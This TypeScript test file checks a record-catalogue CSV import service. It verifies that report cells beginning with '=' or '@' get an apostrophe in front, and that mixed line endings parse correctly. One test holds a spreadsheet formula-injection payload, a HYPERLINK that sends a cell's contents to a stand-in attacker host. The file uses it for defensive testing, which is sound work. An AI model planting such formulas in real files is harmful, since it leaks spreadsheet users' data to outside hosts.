import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { records } from "../../db/schema";
import { upload, useCatalogueAdmin } from "../../tests/setup/catalogue-admin";
import { createCatalogueImportService, type CatalogueImportService } from "./catalogue-import";

const admin = useCatalogueAdmin();
let service: CatalogueImportService;

beforeAll(() => {
  service = createCatalogueImportService(admin.t.db, { importDir: admin.importDir });
});

const header = "catalogue_number,title,artist,price";
const stored = (catalogNumber: string) => admin.t.db.select().from(records).where(eq(records.catalogNumber, catalogNumber)).get();

describe("an import's report", () => {
  it("writes a title a spreadsheet would run as a formula with an apostrophe in front, before and after applying", async () => {
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const csv = [header, `REP-1,"${title.replaceAll('"', '""')}",-M-,9.99`, "@REP-2,Fine,Band,nope"].join("\n");
    const preview = await service.previewImport(upload(csv));
    const before = parse(await service.importReport(preview.id, preview.hash)) as string[][];
    expect(before.slice(1).map((r) => r.slice(0, 4))).toEqual([
      ["2", "to create", "REP-1", `'${title}`],
      ["3", "error", "'@REP-2", "Fine"],
    ]);
    await service.applyImport(admin.actor, { id: preview.id, hash: preview.hash, onlyValid: true });
    const after = parse(await service.importReport(preview.id, preview.hash)) as string[][];
    expect(after.slice(1).map((r) => r.slice(0, 4))).toEqual([
      ["2", "created", "REP-1", `'${title}`],
      ["3", "skipped", "'@REP-2", "Fine"],
    ]);
    expect(stored("REP-1")).toMatchObject({ title, artist: "-M-" });
  });
});

describe("reading an import file", () => {
  it("previews and imports every row when the header ends in CRLF and the rows in LF", async () => {
    const csv = `${header}\r\nMIX-1,One,Band,1.00\nMIX-2,Two,Band,2.00\nMIX-3,Three,Band,3.00\n`;
    const preview = await service.previewImport(upload(csv));
    expect(preview.plan.counts).toEqual({ create: 3, update: 0, unchanged: 0, error: 0 });
    const { result } = await service.applyImport(admin.actor, { id: preview.id, hash: preview.hash, onlyValid: false });
    expect(result).toMatchObject({ created: 3 });
    expect(stored("MIX-3")).toMatchObject({ title: "Three" });
  });
});
